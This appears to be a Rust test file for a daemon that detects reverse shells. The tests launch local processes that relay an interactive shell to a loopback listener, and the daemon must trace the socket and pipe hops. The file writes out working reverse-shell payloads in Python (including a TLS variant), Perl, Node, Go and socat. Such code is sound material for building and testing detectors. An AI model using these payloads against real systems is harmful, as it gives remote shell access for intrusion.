//! Programs that copy between a socket and a shell's pipes or socketpair.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::relayed::{Relayed, prove_relayed, there};
use crate::common::victim::Victim;
use crate::require;
use crate::tools::tls;

fn script(interpreter: &str, option: &str, text: &str, expected: &Relayed) {
    let attacker = Listener::tcp();
    let text = text.replace("PORT", &attacker.port().to_string());
    let victim = Victim::start(interpreter, &[option, &text]);
    prove_relayed(Daemon::shared(), attacker.accept(), victim, &[attacker.port()], expected);
}

/// One thread: a TLS connection must not be used by two.
const PYTHON_PIPES: &str = "import subprocess,select\n\
    p=subprocess.Popen(['sh','-i'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)\n\
    while True:\n\
    \x20r,_,_=select.select([s,p.stdout],[],[])\n\
    \x20if s in r:\n\
    \x20 d=s.recv(4096)\n\
    \x20 if not d: break\n\
    \x20 p.stdin.write(d)\n\
    \x20if p.stdout in r:\n\
    \x20 d=p.stdout.read(4096)\n\
    \x20 if not d: break\n\
    \x20 s.sendall(d)";

#[test]
fn python_pipes() {
    require!("/usr/bin/python3");
    Daemon::shared();
    let text = format!("import socket\ns=socket.create_connection(('127.0.0.1',PORT))\n{PYTHON_PIPES}");
    let expected = Relayed {
        args: &["sh", "-i"],
        hops: &["sh pipe", "python3 pipe", "python3 socket"],
        ..Relayed::default()
    };
    script("/usr/bin/python3", "-c", &text, &expected);
}

#[test]
fn python_tls_pipes() {
    require!("/usr/bin/python3", "openssl", "socat");
    Daemon::shared();
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    let (server, port) = tls(directory.path(), attacker.port());
    let text = format!(
        "import socket,ssl\nc=ssl.create_default_context(); c.check_hostname=False; c.verify_mode=ssl.CERT_NONE\n\
         s=c.wrap_socket(socket.create_connection(('127.0.0.1',{port})))\n{PYTHON_PIPES}"
    );
    let victim = Victim::start("/usr/bin/python3", &["-c", &text]);
    let expected = Relayed {
        args: &["sh", "-i"],
        hops: &["sh pipe", "python3 pipe", "python3 socket"],
        ..Relayed::default()
    };
    prove_relayed(Daemon::shared(), attacker.accept(), victim, &[port], &expected);
    drop(server);
}

#[test]
fn perl_open2() {
    require!("perl");
    Daemon::shared();
    let text = "use IO::Socket; use IPC::Open2; $s=IO::Socket::INET->new('127.0.0.1:PORT') or die; \
        open2(my $o,my $i,'sh -i 2>&1'); \
        if(!fork){while(sysread($s,$b,4096)){syswrite($i,$b)} exit} close $i; \
        while(sysread($o,$b,4096)){syswrite($s,$b)} kill 9,0";
    let expected = Relayed {
        args: &["sh", "-i"],
        execs: 2,
        hops: &["sh pipe", "perl pipe", "perl socket"],
        ..Relayed::default()
    };
    script("perl", "-e", text, &expected);
}

#[test]
fn node_streams() {
    require!("node");
    Daemon::shared();
    let text = "const s=require('net').connect(PORT,'127.0.0.1',()=>{const c=require('child_process').spawn('/bin/sh',[]);\
        s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s)});s.on('close',()=>process.exit())";
    let expected =
        Relayed { args: &["/bin/sh"], hops: &["sh unix", "node unix", "node socket"], ..Relayed::default() };
    script("node", "-e", text, &expected);
}

/// Compiled once for all.
fn go_program(directory: &Path) -> PathBuf {
    let source = directory.join("relay.go");
    std::fs::write(
        &source,
        "package main\nimport (\"net\";\"os\";\"os/exec\")\nfunc main(){c,e:=net.Dial(\"tcp\",os.Args[1]);\
         if e!=nil{os.Exit(1)};k:=exec.Command(\"/bin/sh\",\"-i\");k.Stdin=c;k.Stdout=c;k.Stderr=c;k.Run()}\n",
    )
    .unwrap();
    let target = Path::new(env!("CARGO_TARGET_TMPDIR")).join("go-relay");
    if !target.exists() {
        let mine = target.with_extension(std::process::id().to_string());
        let status = Command::new("go")
            .args(["build", "-o"])
            .arg(&mine)
            .arg(&source)
            .current_dir(directory)
            .env("HOME", directory)
            .env("GOFLAGS", "-mod=mod -modcacherw")
            .env("CGO_ENABLED", "0")
            .status()
            .unwrap();
        assert!(status.success());
        std::fs::rename(&mine, &target).unwrap();
    }
    target
}

#[test]
fn go_copies_through_pipes() {
    require!("go");
    Daemon::shared();
    let directory = tempfile::tempdir().unwrap();
    let program = go_program(directory.path());
    let attacker = Listener::tcp();
    let victim = Victim::start(program, &[&format!("127.0.0.1:{}", attacker.port())]);
    let expected = Relayed {
        args: &["/bin/sh", "-i"],
        hops: &["sh pipe", "go-relay pipe", "go-relay socket"],
        ..Relayed::default()
    };
    prove_relayed(Daemon::shared(), attacker.accept(), victim, &[attacker.port()], &expected);
}

/// The shell sits on an accepted UNIX socket; a second process, a stranger to it, bridges to TCP.
#[test]
fn a_hop_over_a_unix_socket() {
    require!("/usr/bin/python3", "socat");
    Daemon::shared();
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    let path = directory.path().join("s");
    let text = format!(
        "import socket,os\nl=socket.socket(socket.AF_UNIX); l.bind('{0}.new'); l.listen(); os.rename('{0}.new','{0}')\n\
         c,_=l.accept(); [os.dup2(c.fileno(),fd) for fd in (0,1,2)]; os.execv('/bin/sh',['sh','-i'])",
        path.display()
    );
    let shell = Victim::start("/usr/bin/python3", &["-c", &text]);
    there(&path);
    let bridge = [format!("TCP:127.0.0.1:{}", attacker.port()), format!("UNIX-CONNECT:{}", path.display())];
    let bridge = Victim::start("setsid", &["socat", &bridge[0], &bridge[1]]);
    let expected = Relayed {
        args: &["sh", "-i"],
        hops: &["sh unix", "socat unix", "socat socket"],
        ..Relayed::default()
    };
    prove_relayed(Daemon::shared(), attacker.accept(), shell, &[attacker.port()], &expected);
    drop(bridge);
}
